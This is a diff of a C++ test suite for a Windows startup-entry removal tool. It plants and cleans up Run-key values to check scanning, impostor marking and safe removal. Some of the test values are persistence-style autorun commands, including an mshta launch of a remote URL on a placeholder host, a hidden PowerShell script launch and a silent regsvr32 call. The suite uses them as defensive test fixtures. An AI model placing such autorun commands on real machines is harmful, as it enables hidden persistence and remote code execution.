@@ -4,10 +4,13 @@
 // to the Recycle Bin (or, held open, at the next restart).
 #include <gtest/gtest.h>
 
+#include <windows.h>
 #include <tlhelp32.h>
 
+#include <cstdio>
 #include <set>
 
+#include "core/Wildcard.h"
 #include "mainwindow/MainWindowSupport.h"
 #include "mainwindow/pure/StartupCodes.h"
 #include "platform/FileRemoval.h"
@@ -18,6 +21,22 @@ namespace vt::test {
 namespace {
 
 constexpr COLORREF kImpostorRed = RGB(192, 0, 0);
+
+// A REG_SZ value of the current user's Run key for the length of a test.
+class RunEntry {
+public:
+    RunEntry(const std::string& name, const std::string& text) : name_(name) {
+        ::RegCreateKeyExA(HKEY_CURRENT_USER, kKeyRun, 0, nullptr, 0, KEY_ALL_ACCESS, nullptr, key_.put(), nullptr);
+        ::RegSetValueExA(key_.get(), name.c_str(), 0, REG_SZ, reinterpret_cast<const BYTE*>(text.c_str()),
+                         static_cast<DWORD>(text.size() + 1));
+    }
+    ~RunEntry() { ::RegDeleteValueA(key_.get(), name_.c_str()); }
+    bool Exists() const { return ::RegQueryValueExA(key_.get(), name_.c_str(), nullptr, nullptr, nullptr, nullptr) == ERROR_SUCCESS; }
+
+private:
+    UniqueHKey key_;
+    std::string name_;
+};
 
 class NoWaitClock : public IClock {
 public:
@@ -122,9 +141,9 @@ TEST_F(RemovalSafety, SystemProgramsAreRemovedWithoutAFileQuestion) {
     ASSERT_TRUE(FileExists(explorer));
     const std::set<DWORD> explorers = ProcessIds("explorer.exe");
     ASSERT_FALSE(explorers.empty());
-    PlantedValue a(HKEY_CURRENT_USER, kKeyRun, "vtSysNotepad", notepad);
-    PlantedValue b(HKEY_CURRENT_USER, kKeyRun, "vtSysExplorer", "\"" + explorer + "\"");
-    PlantedValue c(HKEY_CURRENT_USER, kKeyRun, "vtSysMshta", "mshta.exe https://example.invalid/x");
+    RunEntry a("vtSysNotepad", notepad);
+    RunEntry b("vtSysExplorer", "\"" + explorer + "\"");
+    RunEntry c("vtSysMshta", "mshta.exe https://example.invalid/x");
     Scan();
     for (const char* name : {"vtSysNotepad", "vtSysExplorer", "vtSysMshta"}) {
         Remove(name, {IDYES, IDYES});
@@ -147,9 +166,9 @@ TEST_F(RemovalSafety, ScriptHostsOfferTheirScriptAndYesRecyclesOnlyThat) {
     ASSERT_TRUE(::CreateDirectoryA(vt.c_str(), nullptr));
     const std::string vbs = vt + "\\start up.vbs", ps1 = vt + "\\b.ps1", dll = vt + "\\c.dll";
     for (const std::string& f : {vbs, ps1, dll}) ASSERT_TRUE(WriteFile(f, "' script"));
-    PlantedValue a(HKEY_CURRENT_USER, kKeyRun, "vtHostWscript", "wscript.exe \"" + vbs + "\" //B");
-    PlantedValue b(HKEY_CURRENT_USER, kKeyRun, "vtHostPowershell", "powershell.exe -NoProfile -w hidden -File " + ps1);
-    PlantedValue c(HKEY_CURRENT_USER, kKeyRun, "vtHostRegsvr", "regsvr32 /s " + dll);
+    RunEntry a("vtHostWscript", "wscript.exe \"" + vbs + "\" //B");
+    RunEntry b("vtHostPowershell", "powershell.exe -NoProfile -w hidden -File " + ps1);
+    RunEntry c("vtHostRegsvr", "regsvr32 /s " + dll);
     Scan();
     struct Case {
         const char* row;
@@ -190,8 +209,9 @@ TEST_F(RemovalSafety, ImpostorNamesAreDrawnRedWithATip) {
     EXPECT_EQ(RowImage(list, impostor), 1);  // the service's grade stays
 
     // The startup list marks them the same way, whatever names the entry.
-    PlantedValue run(HKEY_CURRENT_USER, kKeyRun, "vtImpostorRun", "\"" + (dir / "svchost.exe") + "\" -k");
-    PlantedValue real(HKEY_CURRENT_USER, kKeyRun, "vtRealExplorer", WindowsFolderPath() + "\\explorer.exe");
+    const std::string quoted = '"' + (dir / "svchost.exe") + "\" -k";
+    RunEntry run("vtImpostorRun", quoted);
+    RunEntry real("vtRealExplorer", WindowsFolderPath() + "\\explorer.exe");
     Scan();
     ListView& startup = form->ListView2();
     EXPECT_EQ(startup.TextColor(Row("vtImpostorRun"), 0), kImpostorRed);
@@ -263,7 +283,7 @@ TEST_F(RemovalSafety, RemovedValuesComeBackByteForByteWithRegImport) {
                                                     Wide(L"\"C:\\Program Files\\Citt\u00e0\\a.exe\" /x \"y\\\"")));
     values.push_back(std::make_unique<WideRunValue>(L"vtBackCaff\u00e8", REG_EXPAND_SZ, Wide(L"%TEMP%\\\u00e8\u20ac.exe")));
     values.push_back(std::make_unique<WideRunValue>(L"vtBackMulti", REG_MULTI_SZ,
-                                                    Wide(std::wstring(L"C:\\m.exe\0second \u00e0\0\0", 21), false)));
+                                                    Wide(std::wstring(L"C:\\m.exe\0second \u00e0\0\0", 19), false)));
     values.push_back(std::make_unique<WideRunValue>(L"vtBackEmpty", REG_SZ, Wide(L"")));
     values.push_back(std::make_unique<WideRunValue>(L"vtBackBinary", REG_BINARY, std::string("C:\\bin.exe\0\xff\x01", 13)));
     Scan();
@@ -279,7 +299,7 @@ TEST_F(RemovalSafety, RemovedValuesComeBackByteForByteWithRegImport) {
 
 TEST_F(RemovalSafety, AValueThatCannotBeSavedStaysAndTheUserIsTold) {
     ASSERT_TRUE(WriteFile(dir / "Vantorile", "a file where the backup folder should be"));
-    PlantedValue v(HKEY_CURRENT_USER, kKeyRun, "vtUnsaved", "C:\\Tools\\unsaved.exe");
+    RunEntry v("vtUnsaved", "C:\\Tools\\unsaved.exe");
     Scan();
     Remove("vtUnsaved", {IDYES, IDYES});
     EXPECT_TRUE(v.Exists());
@@ -295,22 +315,32 @@ TEST_F(RemovalSafety, AFileHeldOpenIsOfferedForTheNextRestart) {
     ASSERT_TRUE(WriteFile(exe, "x"));
     UniqueFileHandle held(::CreateFileA(exe.c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0, nullptr));
     ASSERT_TRUE(held);
-    PlantedValue v(HKEY_CURRENT_USER, kKeyRun, "vtHeld", "\"" + exe + "\" /min");
-    const char* sessionKey = "System\\CurrentControlSet\\Control\\Session Manager";
-    std::string before;
+    RunEntry v("vtHeld", "\"" + exe + "\" /min");
+    UniqueHKey session;
+    ASSERT_EQ(::RegOpenKeyExA(HKEY_LOCAL_MACHINE, "System\\CurrentControlSet\\Control\\Session Manager", 0,
+                              KEY_QUERY_VALUE | KEY_SET_VALUE, session.put()),
+              ERROR_SUCCESS);
+    auto pending = [&](DWORD& type) {
+        std::string v(65536, '\0');
+        DWORD size = static_cast<DWORD>(v.size());
+        if (::RegQueryValueExW(session.get(), L"PendingFileRenameOperations", nullptr, &type,
+                               reinterpret_cast<BYTE*>(v.data()), &size) != ERROR_SUCCESS)
+            return std::string();
+        v.resize(size);
+        return v;
+    };
     DWORD type = REG_MULTI_SZ;
-    const bool hadList = GetRegValue(HKEY_LOCAL_MACHINE, sessionKey, "PendingFileRenameOperations", before, 0, &type);
+    const std::string before = pending(type);
     Scan();
     Remove("vtHeld", {IDYES, IDYES, IDYES});
-    std::string after;
-    GetRegValue(HKEY_LOCAL_MACHINE, sessionKey, "PendingFileRenameOperations", after, 0);
+    DWORD ignored = 0;
+    const std::string after = pending(ignored);
     // Nothing of this test is left for the prefix's next start.
-    if (hadList) {
-        PutRegValue(HKEY_LOCAL_MACHINE, sessionKey, "PendingFileRenameOperations", type, before);
+    if (before.empty()) {
+        ::RegDeleteValueW(session.get(), L"PendingFileRenameOperations");
     } else {
-        UniqueHKey k;
-        ::RegOpenKeyExA(HKEY_LOCAL_MACHINE, sessionKey, 0, KEY_SET_VALUE, k.put());
-        ::RegDeleteValueA(k.get(), "PendingFileRenameOperations");
+        ::RegSetValueExW(session.get(), L"PendingFileRenameOperations", 0, type,
+                         reinterpret_cast<const BYTE*>(before.data()), static_cast<DWORD>(before.size()));
     }
     const std::vector<std::string> q = Questions();
     ASSERT_EQ(q.size(), 3u);
